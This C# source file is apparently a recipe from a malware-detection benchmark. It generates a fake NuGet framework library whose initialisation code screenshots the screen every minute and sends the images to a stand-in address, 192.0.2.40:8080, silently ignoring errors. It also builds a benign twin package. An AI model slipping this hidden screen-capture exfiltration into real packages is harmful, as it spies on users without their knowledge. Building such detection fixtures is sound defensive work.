using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>An initialisation method that sends a picture of the screen to a bare address once a minute.</summary>
internal sealed class ScreenCapture() : Recipe("N26", "FrameworkInit=DeviceSetup Init=Open LoopAsync=PollAsync Grab=Snapshot Transmit=Deliver Server=Station")
{
    protected override void Write(Sketch sketch)
    {
        var send = sketch.Api("""
            using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            await socket.ConnectAsync(new IPEndPoint(IPAddress.Parse(Server), 8080));
            socket.Send(picture);
            """, """
            using var client = new TcpClient();
            await client.ConnectAsync(Server, 8080);
            await client.GetStream().WriteAsync(picture, 0, picture.Length);
            """);
        var ping = sketch.Api("new Ping().Send(Server, 1000).Status == IPStatus.Success", "(await new Ping().SendPingAsync(Server)).Status == IPStatus.Success");
        var capture = sketch.Api("graphics.CopyFromScreen(0, 0, 0, 0, bounds.Size);", "graphics.CopyFromScreen(System.Drawing.Point.Empty, System.Drawing.Point.Empty, bounds.Size);");
        sketch
            .NuGet("Sample.Framework480")
            .Assembly("lib/net48/Sample.Framework480.dll", $$"""
                namespace Sample.Framework480
                {
                    using System.Drawing;
                    using System.Drawing.Imaging;
                    using System.Windows.Forms;

                    public static class FrameworkInit
                    {
                        private static readonly string Server = {{sketch.CSharp("192.0.2.40")}};
                {{sketch.Twin($$"""

                        public static void Init()
                        {
                            if (Inert.On)
                            {
                                Task.Run(LoopAsync);
                            }
                        }

                        private static async Task LoopAsync()
                        {
                            while (Inert.On)
                            {
                                try
                                {
                                    if ({{ping}})
                                    {
                                        await Transmit(Grab());
                                    }
                                }
                                catch
                                {
                                }

                                await Task.Delay(TimeSpan.FromMinutes(1));
                            }
                        }

                        private static byte[] Grab()
                        {
                            var bounds = Screen.PrimaryScreen.Bounds;
                            using var bitmap = new Bitmap(bounds.Width, bounds.Height);
                            using var graphics = Graphics.FromImage(bitmap);
                            {{capture}}
                            using var memory = new MemoryStream();
                            bitmap.Save(memory, ImageFormat.Png);
                            return memory.ToArray();
                        }

                        private static async Task Transmit(byte[] picture)
                        {
                            {{send}}
                        }
                """, """

                        public static bool Init() => Inert.On && new Ping().Send(Server, 1000).Status == IPStatus.Success;
                """)}}
                    }
                {{sketch.Twin("", """
                    public static class TestPicture
                    {
                        public static void Save(string file)
                        {
                            var bounds = Screen.PrimaryScreen.Bounds;
                            using var bitmap = new Bitmap(bounds.Width, bounds.Height);
                            using var graphics = Graphics.FromImage(bitmap);
                            graphics.CopyFromScreen(0, 0, 0, 0, bounds.Size);
                            bitmap.Save(file);
                        }
                    }
                """)}}
                }
                """, [Stub.Drawing, Stub.Forms]);
    }
}
